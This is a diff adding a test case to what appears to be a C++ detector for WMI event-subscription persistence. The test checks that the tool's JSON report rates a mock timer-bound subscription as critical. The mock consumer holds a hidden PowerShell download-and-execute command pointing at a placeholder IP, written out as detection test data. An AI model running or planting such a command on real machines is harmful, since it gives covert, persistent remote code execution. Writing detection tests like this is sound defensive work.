@@ -2,6 +2,8 @@
 // errors and provenance, checksums, located errors and limits. Needs nlohmann/json.
 #include "wmisub/json.hpp"
 
+#include "wmisub/collector.hpp"
+
 #include "corpus.hpp"
 #include "shared_data.hpp"
 
@@ -681,4 +683,34 @@ TEST_CASE("a value a source delivered with an unexpected type is reported once, 
     CHECK(back->errors.size() == 1);
     CHECK(header_of(back->consumers[0]).extra_property("KillTimeout") != nullptr);
     CHECK(to_json_text(*back) == text);
+}
+
+TEST_CASE("wmisub.report/1: assessments with their objects, trigger, risk and findings, and the snapshot's errors") {
+    mock_collector source;
+    source.interval_timer("T", 60000)
+        .filter("Timer", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'")
+        .command_line_consumer("Run", "powershell.exe -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\"")
+        .bind("Timer", "Run")
+        .error_in("root\\other", make_error(errc::access_denied, "namespace could not be read"));
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    const subscription_graph graph(*snap);
+    const auto results = assess(graph, rule_catalog::builtin());
+    const json_value report = report_to_json(results, *snap);
+    CHECK(report["schema"] == "wmisub.report/1");
+    REQUIRE(report["subscriptions"].size() == 1);
+    const json_value& entry = report["subscriptions"][0];
+    CHECK(entry["state"] == "bound");
+    CHECK(entry["filter"]["name"] == "Timer");
+    CHECK(entry["trigger"]["kind"] == "interval_timer");
+    CHECK(entry["trigger"]["timer_id"] == "T");
+    CHECK(entry["trigger"]["timer_interval_ms"] == 60000);
+    CHECK(entry["trigger"]["description"].get<std::string>().find("every") != std::string::npos);
+    CHECK(entry["risk"]["severity"] == "critical");
+    REQUIRE_FALSE(entry["findings"].empty());
+    CHECK(entry["findings"][0]["rule"].get<std::string>().rfind("WMISUB-", 0) == 0);
+    CHECK_FALSE(entry["findings"][0]["evidence"].empty());
+    REQUIRE(report["errors"].size() == 1);
+    CHECK(report["errors"][0]["namespace"] == "root\\other");
+    CHECK(to_json(results[0]) == entry);
 }
